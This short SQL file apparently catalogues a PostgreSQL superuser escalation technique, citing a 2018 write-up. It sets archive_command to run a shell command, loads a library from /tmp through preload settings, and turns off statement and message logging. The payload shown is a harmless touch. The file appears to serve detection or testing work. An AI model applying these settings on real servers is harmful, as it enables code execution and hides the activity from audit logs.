-- way: change the server's settings, which load libraries or run commands
-- source: write-up: PostgreSQL, from session_preload_libraries and archive_command to a shell (2018)
-- control: superuser
-- section: application
SET ROLE NONE;
ALTER SYSTEM SET archive_command = 'touch /tmp/climb_archive';
ALTER SYSTEM SET session_preload_libraries = '/tmp/climb.so';
ALTER SYSTEM RESET archive_command;
ALTER SYSTEM RESET session_preload_libraries;
ALTER SYSTEM SET work_mem = '5MB';
SET session_preload_libraries = '/tmp/climb.so';
SET local_preload_libraries = 'climb';
SET log_statement = 'none';
SET dynamic_library_path = '/tmp';
SET log_min_messages = panic;
